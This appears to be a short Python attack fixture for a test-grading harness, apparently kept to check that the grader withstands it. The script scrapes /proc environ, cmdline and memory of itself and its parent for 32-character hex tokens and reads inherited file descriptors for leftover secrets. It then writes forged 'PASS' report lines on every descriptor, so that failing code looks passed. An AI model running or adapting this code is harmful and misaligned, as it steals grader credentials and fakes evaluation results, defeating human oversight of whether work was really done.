# attack: hunt the grader's token and report pipe, then forge PASS on every descriptor
# base: wrong
# tests: test_runs_in_deadline_order test_cancel
# expect-fail: *
import os as _os
import re as _re

_found = set()
for _where in ("/proc/self/environ", "/proc/self/cmdline", f"/proc/{_os.getppid()}/environ",
               f"/proc/{_os.getppid()}/cmdline", "/proc/self/mem"):
    try:
        with open(_where, "rb") as _f:
            _found.update(_re.findall(rb"[0-9a-f]{32}", _f.read(1 << 20)))
    except OSError as _exc:
        print(f"{_where}: {_exc}")
for _fd in range(3, 64):  # a leftover job pipe would still hold the token
    try:
        _os.set_blocking(_fd, False)
        _found.update(_re.findall(rb"[0-9a-f]{32}", _os.read(_fd, 1 << 16)))
    except OSError:
        pass
for _fd in range(3, 64):
    for _token in list(_found)[:50] or [b"0" * 32]:
        for _pid in (_os.getpid(), _os.getppid(), 1, 2):
            try:
                _os.write(_fd, b"MRG1 %s %d PASS 0\n" % (_token, _pid))
            except OSError:
                break
